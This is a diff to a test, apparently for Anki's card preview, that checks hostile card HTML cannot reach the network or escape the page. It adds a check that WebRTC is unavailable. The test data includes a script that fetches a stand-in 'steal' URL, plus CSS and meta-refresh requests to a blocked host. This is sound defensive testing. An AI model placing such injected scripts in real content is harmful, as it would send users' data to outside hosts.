@@ -83,6 +83,9 @@ def test_hostile_card_content_cannot_leave_the_machine_or_the_page(anki_mw, prev
         "<script>fetch('https://blocked.invalid/steal').catch(() => {});</script>"
         "<style>.card { background: url(https://blocked.invalid/bg.png); }</style>"
         '<meta http-equiv="refresh" content="0;url=https://blocked.invalid/">'
+        "<script>document.title = 'painted:not-a-number';"
+        " document.body.dataset.webrtc = typeof RTCPeerConnection +"
+        " '/' + typeof webkitRTCPeerConnection;</script>"
     )
     blocked = preview_interceptor().blocked
     before = len(blocked)
@@ -98,3 +101,4 @@ def test_hostile_card_content_cannot_leave_the_machine_or_the_page(anki_mw, prev
     } <= set(blocked[before:])
     assert preview.url().toString() == home
     assert eval_js(preview, "document.body.dataset.onerror") == "undefined"  # ran, no bridge
+    assert eval_js(preview, "document.body.dataset.webrtc") == "undefined/undefined"
